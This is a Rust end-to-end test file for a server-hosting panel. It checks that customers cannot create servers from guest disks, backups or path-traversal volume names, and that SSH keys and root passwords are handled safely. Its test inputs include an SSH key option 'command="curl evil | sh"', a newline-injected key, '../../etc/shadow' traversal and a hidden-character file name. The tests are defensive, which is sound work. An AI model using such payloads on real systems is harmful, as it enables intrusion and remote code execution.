//! What a customer sends that reaches a provider, told as an attacker's stories: a guest's disk,
//! a backup volume or a path trick named as the template or ISO is refused in core at every
//! door (core, API, portal, Discord) and the provider fake receives no create; bad SSH keys are
//! refused and good ones reach each platform in its real field; the root password is shown in
//! the create's answer once and nowhere else; the lists a create chooses from answer over the
//! API and in Discord's autocomplete.

use std::sync::Arc;

use hostdeck_core::clock::SystemClock;
use hostdeck_core::providers::{CreateKey, Image};
use hostdeck_core::servers::{CreateChoice, CreateServer};
use hostdeck_core::ssh_keys::{SshKeyId, SshPublicKey};
use hostdeck_core::{ErrorCode, Role, Via};
use hostdeck_e2e::app::{TestApp, answer};
use hostdeck_e2e::bot::{self, GUILD};
use hostdeck_e2e::db::TestDb;
use hostdeck_fakes::discord::Member;
use reqwest::Method;
use serde_json::{Value, json};

use crate::bot_basics::{WAIT, fake_discord, first_answer, text_of};
use crate::servers::{Cloud, customer, give_credit, plan};

/// A good ed25519 key.
pub const ADA_KEY: &str =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG7Yq6m3ZqS0Rk9w8b7z0o0dM8b3fJtq8XoXk2nS3yYc ada@laptop";
/// Another.
const DESK_KEY: &str =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAILayXN8GAk6PGMfvIIzZCPRbJdGqAhYsnd61dcdcYcD2 ada@desk";

/// The `n`th of many distinct ed25519 key lines (the blob's shape is all the parser checks).
fn nth_key(n: u8) -> String {
    use base64::Engine;
    let mut blob = Vec::new();
    blob.extend_from_slice(&11u32.to_be_bytes());
    blob.extend_from_slice(b"ssh-ed25519");
    blob.extend_from_slice(&32u32.to_be_bytes());
    blob.extend_from_slice(&[n; 32]);
    format!(
        "ssh-ed25519 {} key{n}@box",
        base64::engine::general_purpose::STANDARD.encode(blob)
    )
}

/// What an attacker names instead of a listed template or ISO.
const NOT_LISTED: [&str; 7] = [
    "local-lvm:vm-100-disk-0",
    "local:backup/vzdump-lxc-100-2026_01_01-00_00_00.tar.zst",
    "local:vztmpl/../images/100/vm-100-disk-0.raw",
    "local:iso/debian-12.iso,media=disk",
    "local:vztmpl/debian-12-standard_12.7-1_amd64.tar.zst,mp0=local-lvm:vm-100-disk-0",
    "/var/lib/vz/images/100/vm-100-disk-0.raw",
    "local:iso/../../etc/shadow",
];

/// Creates the fake Proxmox received (LXC or QEMU).
fn pve_creates(cloud: &Cloud) -> usize {
    cloud
        .pve
        .recorder()
        .calls()
        .iter()
        .filter(|call| {
            call.method == Method::POST
                && (call.path().ends_with("/lxc") || call.path().ends_with("/qemu"))
        })
        .count()
}

/// The form of the last create the fake Proxmox received, decoded.
fn last_pve_create(cloud: &Cloud) -> Vec<(String, String)> {
    let call = cloud
        .pve
        .recorder()
        .calls()
        .into_iter()
        .rev()
        .find(|call| {
            call.method == Method::POST
                && (call.path().ends_with("/lxc") || call.path().ends_with("/qemu"))
        })
        .expect("a create reached Proxmox");
    let text = call.body.as_str().unwrap_or_default().to_owned();
    url::form_urlencoded::parse(text.as_bytes())
        .into_owned()
        .collect()
}

fn field<'a>(form: &'a [(String, String)], name: &str) -> Option<&'a str> {
    form.iter()
        .find(|(key, _)| key == name)
        .map(|(_, value)| value.as_str())
}

async fn start(db: &TestDb, cloud: &Cloud) -> TestApp {
    TestApp::start(db.core_with(cloud.config(""), Arc::new(SystemClock)).await).await
}

fn choice(core: &hostdeck_core::Core, image: Image, location: &str) -> CreateChoice {
    CreateChoice {
        name: "web".into(),
        hostname: "web.example.com".into(),
        size: plan(core),
        image,
        location: Some(location.into()),
    }
}

async fn an_attacker_names_volumes_that_are_not_on_the_list(db: TestDb) {
    let cloud = Cloud::start().await;
    let app = start(&db, &cloud).await;
    let core = app.core();
    let (user, actor) = customer(core, "mallory@example.com", "20.00", Via::Api).await;

    // Core: every create, review and held create refuses, for templates and ISOs alike.
    for volume in NOT_LISTED {
        for image in [Image::Template(volume.into()), Image::Iso(volume.into())] {
            let chosen = choice(core, image, "pve");
            let errors = [
                core.servers
                    .review(&actor, &chosen)
                    .await
                    .expect_err("reviewed"),
                core.servers
                    .hold_create(&actor, chosen.clone())
                    .await
                    .expect_err("held"),
                core.servers
                    .create(&actor, CreateServer::new(CreateKey::random(), chosen))
                    .await
                    .expect_err("created"),
            ];
            for error in errors {
                assert_eq!(error.code(), ErrorCode::Invalid, "{volume}: {error}");
                assert!(error.to_string().contains("not offered"), "{error}");
            }
        }
    }
    // A listed template named as an ISO is not the listed ISO either.
    let swapped = choice(
        core,
        Image::Iso("local:vztmpl/debian-12-standard_12.7-1_amd64.tar.zst".into()),
        "pve",
    );
    assert!(core.servers.review(&actor, &swapped).await.is_err());

    // The API: the same refusal, as the API's error shape.
    let token = app
        .login("mallory@example.com", hostdeck_e2e::app::PASSWORD)
        .await;
    for volume in NOT_LISTED {
        for kind in ["template", "iso"] {
            let body = json!({"name": "web", "hostname": "web.example.com", "plan": "small",
                              kind: volume, "location": "pve"});
            let (status, error) =
                answer(app.post_json(Some(&token), "/api/v1/servers", &body).await).await;
            assert_eq!(status, 422, "{volume}: {error}");
            assert_eq!(error["error"]["code"], json!("invalid"), "{error}");
        }
    }

    // The portal: a hand-made form naming a guest's disk, from a page of the customer's own
    // session, so only the image is wrong.
    let visit = app.portal_visit(Some(&token), "/servers/new").await;
    for volume in NOT_LISTED {
        let page = app
            .portal_post(
                &visit,
                "/servers",
                &[
                    ("key", "portal-attack-1"),
                    ("name", "web"),
                    ("hostname", "web.example.com"),
                    ("plan", "small"),
                    ("os", &format!("pve|template|{volume}")),
                ],
            )
            .await;
        assert_eq!(page.status(), 422, "{volume}");
    }

    assert_eq!(
        pve_creates(&cloud),
        0,
        "the fake Proxmox received no create"
    );
    assert!(cloud.pve.guests().is_empty());
    assert!(
        core.store()
            .servers()
            .servers_of(Some(user.id))
            .await
            .expect("servers")
            .is_empty(),
        "no server row was written"
    );
    cloud.assert_clean();
}

async fn ssh_keys_are_checked_saved_and_reach_each_platform(db: TestDb) {
    let cloud = Cloud::start().await;
    let app = start(&db, &cloud).await;
    let core = app.core();
    let (_, ada) = customer(core, "ada@example.com", "30.00", Via::Api).await;
    let (_, eve) = customer(core, "eve@example.com", "30.00", Via::Api).await;

    // Bad keys are refused, saved or given at a create.
    let truncated = &ADA_KEY[..60];
    let options = format!("command=\"curl evil | sh\" {ADA_KEY}");
    let newline = format!("{ADA_KEY}\nssh-ed25519 AAAA injected");
    let huge = format!("ssh-ed25519 {}", "A".repeat(100 * 1024));
    let wrong_type = "ssh-dss AAAAB3NzaC1kc3MAAACBAP8= old@box";
    for bad in [truncated, &options, &newline, &huge, wrong_type] {
        let error = core
            .ssh_keys
            .add(&ada, "bad", bad)
            .await
            .expect_err("refused");
        assert_eq!(error.code(), ErrorCode::Invalid, "{error}");
        assert!(SshPublicKey::parse(bad).is_err());
    }
    let token = app
        .login("ada@example.com", hostdeck_e2e::app::PASSWORD)
        .await;
    for bad in [&options, &newline] {
        let body = json!({"name": "web", "hostname": "web.example.com", "plan": "small",
                          "template": "local:vztmpl/debian-12-standard_12.7-1_amd64.tar.zst",
                          "location": "pve", "ssh_keys": [bad]});
        let (status, error) =
            answer(app.post_json(Some(&token), "/api/v1/servers", &body).await).await;
        assert_eq!(status, 422, "{error}");
    }
    assert_eq!(pve_creates(&cloud), 0);

    // A good key is saved once, listed, and Eve cannot use Ada's saved key.
    let saved = core
        .ssh_keys
        .add(&ada, "laptop", ADA_KEY)
        .await
        .expect("saved");
    assert!(core.ssh_keys.add(&ada, "again", ADA_KEY).await.is_err());
    assert_eq!(core.ssh_keys.list(&ada).await.expect("listed").len(), 1);
    let steal = CreateServer {
        saved_keys: vec![saved.id],
        ..CreateServer::new(
            CreateKey::random(),
            choice(
                core,
                Image::Template("local:vztmpl/debian-12-standard_12.7-1_amd64.tar.zst".into()),
                "pve",
            ),
        )
    };
    let error = core
        .servers
        .create(&eve, steal)
        .await
        .expect_err("not Eve's");
    assert_eq!(error.code(), ErrorCode::NotFound, "{error}");
    assert!(core.ssh_keys.delete(&eve, saved.id).await.is_err());
    assert_eq!(pve_creates(&cloud), 0);

    // A thousand saved ids are refused by the count, before one is looked up.
    let many = CreateServer {
        saved_keys: (1..=1000).map(SshKeyId).collect(),
        ..CreateServer::new(
            CreateKey::random(),
            choice(core, Image::Template("11".into()), "vf"),
        )
    };
    let error = core
        .servers
        .create(&ada, many)
        .await
        .expect_err("too many keys");
    assert_eq!(error.code(), ErrorCode::Invalid, "{error}");
    assert!(error.to_string().contains("at most 10"), "{error}");

    // Keys are a set: the same keys in another order, or one twice, are the same request.
    let desk = SshPublicKey::parse(DESK_KEY).expect("a key");
    let laptop = SshPublicKey::parse(ADA_KEY).expect("a key");
    let ordered = |keys: Vec<SshPublicKey>, ids: Vec<SshKeyId>| CreateServer {
        ssh_keys: keys,
        saved_keys: ids,
        ..CreateServer::new(
            CreateKey::parse("two-keys").expect("a key"),
            choice(core, Image::Template("11".into()), "vf"),
        )
    };
    let first = ordered(
        vec![laptop.clone(), desk.clone()],
        vec![SshKeyId(7), SshKeyId(3)],
    );
    let again = ordered(
        vec![desk, laptop.clone(), laptop],
        vec![SshKeyId(3), SshKeyId(7), SshKeyId(3)],
    );
    assert_eq!(first.fingerprint(), again.fingerprint());

    // A container gets it in `ssh-public-keys`.
    let created = core
        .servers
        .create(
            &ada,
            CreateServer {
                saved_keys: vec![saved.id],
                ..CreateServer::new(
                    CreateKey::random(),
                    choice(
                        core,
                        Image::Template(
                            "local:vztmpl/debian-12-standard_12.7-1_amd64.tar.zst".into(),
                        ),
                        "pve",
                    ),
                )
            },
        )
        .await
        .expect("a container");
    assert!(created.root_password.is_none(), "a key alone: no password");
    let form = last_pve_create(&cloud);
    assert_eq!(field(&form, "ssh-public-keys"), Some(ADA_KEY));
    assert_eq!(field(&form, "password"), None);

    // A VM gets it through cloud-init, URL-encoded as the schema's `urlencoded` wants.
    let key = SshPublicKey::parse(ADA_KEY).expect("a key");
    core.servers
        .create(
            &ada,
            CreateServer {
                ssh_keys: vec![key.clone()],
                root_password: true,
                ..CreateServer::new(
                    CreateKey::random(),
                    choice(core, Image::Iso("local:iso/debian-12.iso".into()), "pve"),
                )
            },
        )
        .await
        .expect("a VM");
    let form = last_pve_create(&cloud);
    let sent = field(&form, "sshkeys").expect("sshkeys");
    assert!(!sent.contains(' ') && sent.contains("%20"), "{sent}");
    let decoded: String = url::form_urlencoded::parse(format!("k={sent}").as_bytes())
        .map(|(_, value)| value.into_owned())
        .collect();
    assert_eq!(decoded, ADA_KEY);
    assert_eq!(field(&form, "ciuser"), Some("root"));
    assert!(field(&form, "cipassword").is_some_and(|p| p.len() >= 16));

    // VirtFusion: the key is added to the customer's VirtFusion user and built by its id.
    core.servers
        .create(
            &ada,
            CreateServer {
                ssh_keys: vec![key],
                ..CreateServer::new(
                    CreateKey::random(),
                    choice(core, Image::Template("11".into()), "vf"),
                )
            },
        )
        .await
        .expect("a VirtFusion server");
    let vf_keys = cloud.vf.ssh_keys();
    assert_eq!(vf_keys.len(), 1);
    assert_eq!(vf_keys[0].public_key, ADA_KEY);
    let server = cloud.vf.servers().pop().expect("the server");
    assert_eq!(server.ssh_key_ids, vec![vf_keys[0].id]);

    // Jelastic cannot take a key: refused before anything is made.
    let error = core
        .servers
        .create(
            &ada,
            CreateServer {
                saved_keys: vec![saved.id],
                ..CreateServer::new(
                    CreateKey::random(),
                    choice(core, Image::Template("ubuntu-vps".into()), "jel"),
                )
            },
        )
        .await
        .expect_err("no keys on Jelastic");
    assert_eq!(error.code(), ErrorCode::Invalid, "{error}");
    assert!(cloud.jel.environments().is_empty());

    // Deleting the saved key leaves a create that names it refused.
    core.ssh_keys.delete(&ada, saved.id).await.expect("deleted");
    assert!(core.ssh_keys.list(&ada).await.expect("listed").is_empty());
    let gone = CreateServer {
        saved_keys: vec![SshKeyId(saved.id.0)],
        ..CreateServer::new(
            CreateKey::random(),
            choice(core, Image::Template("11".into()), "vf"),
        )
    };
    assert!(core.servers.create(&ada, gone).await.is_err());
    cloud.assert_clean();
}

async fn the_root_password_is_shown_once_and_kept_nowhere(db: TestDb) {
    let cloud = Cloud::start().await;
    let app = start(&db, &cloud).await;
    let ada = app.user("ada@example.com", Role::Customer).await;
    give_credit(app.core(), &ada.user, "20.00").await;
    let body = json!({"name": "web", "hostname": "web.example.com", "plan": "small",
                      "template": "local:vztmpl/debian-12-standard_12.7-1_amd64.tar.zst",
                      "location": "pve"});
    let request = |body: &Value| {
        app.http
            .post(app.url("/api/v1/servers"))
            .bearer_auth(&ada.token)
            .header("Idempotency-Key", "first-server-1")
            .json(body)
            .send()
    };
    let (status, created) = answer(request(&body).await.expect("POST")).await;
    assert_eq!(status, 201, "{created}");
    let password = created["root_password"]
        .as_str()
        .expect("a root password without a key")
        .to_owned();
    assert!(password.len() >= 16, "{password}");
    let form = last_pve_create(&cloud);
    assert_eq!(field(&form, "password"), Some(password.as_str()));

    // Asked again under the same key: the same server, no password.
    let (status, replay) = answer(request(&body).await.expect("POST")).await;
    assert_eq!(status, 200, "{replay}");
    assert_eq!(replay["root_password"], Value::Null);
    let id = created["server"]["id"].as_i64().expect("an id");
    let read = app
        .get_as(&ada.token, &format!("/api/v1/servers/{id}"))
        .await
        .text()
        .await
        .expect("the server");
    assert!(!read.contains(&password), "{read}");
    let listed = app
        .get_as(&ada.token, "/api/v1/servers")
        .await
        .text()
        .await
        .expect("the list");
    assert!(!listed.contains(&password));

    // Not in the audit log, not in any stored server field.
    let store = app.core().store().clone();
    let audit = store
        .audit()
        .audit_log(hostdeck_core::store::Page::first(200))
        .await
        .expect("the audit log");
    for record in audit.items {
        let detail = record.detail.map(|d| d.to_string()).unwrap_or_default();
        assert!(!detail.contains(&password), "{}: {detail}", record.action);
    }
    for server in store.servers().servers_of(None).await.expect("servers") {
        let stored = format!("{server:?}");
        assert!(!stored.contains(&password), "{stored}");
    }
    if db.url.starts_with("sqlite:") {
        let file = db.url.trim_start_matches("sqlite://");
        for path in [file.to_owned(), format!("{file}-wal")] {
            let bytes = std::fs::read(&path).unwrap_or_default();
            let text = String::from_utf8_lossy(&bytes);
            assert!(!text.contains(&password), "the password is in {path}");
        }
    }
    cloud.assert_clean();
}

async fn keys_saved_at_once_stop_at_twenty_and_names_hide_nothing(db: TestDb) {
    let core = db.core(Arc::new(SystemClock)).await;
    let (ada, actor) = customer(&core, "ada@example.com", "1.00", Via::Api).await;
    // A name that reads backwards or hides a character is refused.
    for name in ["laptop\u{202E}gpj.exe", "lap\u{200B}top"] {
        let error = core
            .ssh_keys
            .add(&actor, name, ADA_KEY)
            .await
            .expect_err("a hidden character");
        assert_eq!(error.code(), ErrorCode::Invalid, "{error}");
    }
    // Thirty keys at once: the ceiling of twenty holds.
    let mut runs = tokio::task::JoinSet::new();
    for n in 0..30u8 {
        let core = core.clone();
        let actor = actor.clone();
        runs.spawn(async move {
            core.ssh_keys
                .add(&actor, &format!("key {n}"), &nth_key(n))
                .await
        });
    }
    let results = runs.join_all().await;
    let saved = results.iter().filter(|result| result.is_ok()).count();
    assert_eq!(saved, 20, "thirty keys added at once");
    for error in results.iter().filter_map(|result| result.as_ref().err()) {
        assert_eq!(error.code(), ErrorCode::Conflict, "{error}");
    }
    assert_eq!(core.ssh_keys.list(&actor).await.expect("listed").len(), 20);
    let _ = ada;
}

hostdeck_e2e::on_both_engines!(
    keys_saved_at_once_stop_at_twenty_and_names_hide_nothing,
    an_attacker_names_volumes_that_are_not_on_the_list,
    ssh_keys_are_checked_saved_and_reach_each_platform,
    the_root_password_is_shown_once_and_kept_nowhere,
);

#[tokio::test]
async fn the_lists_a_create_chooses_from_answer_over_the_api() {
    let db = TestDb::sqlite().await;
    let cloud = Cloud::start().await;
    let app = start(&db, &cloud).await;
    let ada = app.user("ada@example.com", Role::Customer).await;

    let (status, plans) = answer(app.get_as(&ada.token, "/api/v1/plans").await).await;
    assert_eq!(status, 200, "{plans}");
    assert!(
        plans
            .as_array()
            .is_some_and(|plans| plans.iter().any(|p| p["name"] == json!("small"))),
        "{plans}"
    );
    let (status, locations) = answer(app.get_as(&ada.token, "/api/v1/locations").await).await;
    assert_eq!(status, 200, "{locations}");
    let names: Vec<&str> = locations
        .as_array()
        .map(|list| list.iter().filter_map(|l| l["name"].as_str()).collect())
        .unwrap_or_default();
    assert_eq!(names, ["jel", "pve", "vf"]);

    let (status, pve) = answer(
        app.get_as(&ada.token, "/api/v1/templates?location=pve")
            .await,
    )
    .await;
    assert_eq!(status, 200, "{pve}");
    let ids: Vec<&str> = pve
        .as_array()
        .map(|list| list.iter().filter_map(|t| t["id"].as_str()).collect())
        .unwrap_or_default();
    assert!(ids.contains(&"local:vztmpl/debian-12-standard_12.7-1_amd64.tar.zst"));
    assert!(ids.contains(&"local:iso/debian-12.iso"));
    assert!(
        !ids.iter()
            .any(|id| id.contains("vm-100-disk") || id.contains("backup")),
        "no guest disk or backup is offered: {ids:?}"
    );
    let (status, all) = answer(app.get_as(&ada.token, "/api/v1/templates").await).await;
    assert_eq!(status, 200, "{all}");
    assert!(all.as_array().is_some_and(|all| {
        all.iter()
            .any(|t| t["location"] == json!("vf") && t["id"] == json!("11"))
            && all
                .iter()
                .any(|t| t["location"] == json!("jel") && t["id"] == json!("ubuntu-vps"))
    }));
    // Read once and kept: a second list does not ask Proxmox again.
    let reads = cloud
        .pve
        .call_count("GET /nodes/{node}/storage/{storage}/content");
    answer(
        app.get_as(&ada.token, "/api/v1/templates?location=pve")
            .await,
    )
    .await;
    assert_eq!(
        cloud
            .pve
            .call_count("GET /nodes/{node}/storage/{storage}/content"),
        reads
    );

    // SSH keys over the API.
    let (status, saved) = answer(
        app.post_json(
            Some(&ada.token),
            "/api/v1/ssh-keys",
            &json!({"name": "laptop", "public_key": ADA_KEY}),
        )
        .await,
    )
    .await;
    assert_eq!(status, 201, "{saved}");
    let (status, bad) = answer(
        app.post_json(
            Some(&ada.token),
            "/api/v1/ssh-keys",
            &json!({"name": "x", "public_key": format!("from=\"*\" {ADA_KEY}")}),
        )
        .await,
    )
    .await;
    assert_eq!(status, 422, "{bad}");
    let (status, listed) = answer(app.get_as(&ada.token, "/api/v1/ssh-keys").await).await;
    assert_eq!(status, 200);
    assert_eq!(listed[0]["fingerprint"], saved["fingerprint"]);
    let id = saved["id"].as_i64().expect("an id");
    let deleted = app
        .send(
            Method::DELETE,
            &format!("/api/v1/ssh-keys/{id}"),
            Some(&ada.token),
            None,
        )
        .await;
    assert_eq!(deleted.status(), 204);

    let (_, document) = answer(app.get("/api/openapi.json").await).await;
    for path in [
        "/api/v1/plans",
        "/api/v1/locations",
        "/api/v1/templates",
        "/api/v1/ssh-keys",
    ] {
        assert!(document["paths"][path].is_object(), "{path} is documented");
    }
    cloud.assert_clean();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn discord_autocompletes_templates_and_refuses_a_volume_not_listed() {
    let discord = fake_discord().await;
    let cloud = Cloud::start().await;
    let db = TestDb::sqlite().await;
    let mut config = bot::config(&discord.api_base(), &discord.token());
    config.providers = cloud.config("").providers;
    let app = bot::start(&db, config).await;
    discord.wait_ready(WAIT).await;
    let carl_account =
        bot::linked_account(&app, "carl@example.com", Role::Customer, 3200, "carl").await;
    give_credit(app.core(), &carl_account.user, "10.00").await;
    let carl = Member::new(3200, "carl").in_guild(GUILD);
    discord.add_member(&carl);

    // The templates of the location typed so far.
    let typed = discord
        .autocomplete(
            &carl,
            "server",
            json!([{"name": "create", "type": 1, "options": [
                {"name": "name", "type": 3, "value": "api"},
                {"name": "hostname", "type": 3, "value": "api.example.com"},
                {"name": "plan", "type": 3, "value": "small"},
                {"name": "template", "type": 3, "value": "deb", "focused": true},
                {"name": "location", "type": 3, "value": "pve"}
            ]}]),
        )
        .await;
    let answers = typed.wait(WAIT).await;
    let choices = answers[0].choices();
    assert!(
        choices.iter().any(|choice| choice["value"]
            == json!("local:vztmpl/debian-12-standard_12.7-1_amd64.tar.zst")),
        "{choices:#?}"
    );
    assert!(
        choices
            .iter()
            .all(|choice| choice["name"].as_str().is_some_and(|n| n.contains("(pve)"))),
        "only the location's: {choices:#?}"
    );

    // A guest's disk typed instead of chosen is refused by core, before any button.
    let asked = first_answer(
        &discord,
        &carl,
        "server",
        json!([{"name": "create", "type": 1, "options": [
            {"name": "name", "type": 3, "value": "api"},
            {"name": "hostname", "type": 3, "value": "api.example.com"},
            {"name": "plan", "type": 3, "value": "small"},
            {"name": "template", "type": 3, "value": "local-lvm:vm-100-disk-0"},
            {"name": "location", "type": 3, "value": "pve"}
        ]}]),
    )
    .await;
    let text = text_of(&asked);
    assert!(text.contains("not offered"), "{text}");
    assert!(asked.custom_ids().is_empty(), "no confirm button");
    assert_eq!(pve_creates(&cloud), 0);

    // A listed one is confirmed, and the root password is in the ephemeral answer once.
    let asked = first_answer(
        &discord,
        &carl,
        "server",
        json!([{"name": "create", "type": 1, "options": [
            {"name": "name", "type": 3, "value": "api"},
            {"name": "hostname", "type": 3, "value": "api.example.com"},
            {"name": "plan", "type": 3, "value": "small"},
            {"name": "template", "type": 3,
             "value": "local:vztmpl/debian-12-standard_12.7-1_amd64.tar.zst"},
            {"name": "location", "type": 3, "value": "pve"}
        ]}]),
    )
    .await;
    let button = asked
        .custom_ids()
        .into_iter()
        .find(|id| id.starts_with("server:create:"))
        .expect("a confirm button");
    let message = asked.message.clone().expect("the question");
    let pressed = discord.click(&carl, &message, &button).await;
    let answers = pressed.wait(WAIT).await;
    let text: String = answers.iter().map(text_of).collect();
    let form = last_pve_create(&cloud);
    let password = field(&form, "password")
        .expect("a password sent")
        .to_owned();
    assert!(text.contains(&password), "{text}");
    app.running.shutdown().await.expect("shutdown");
}
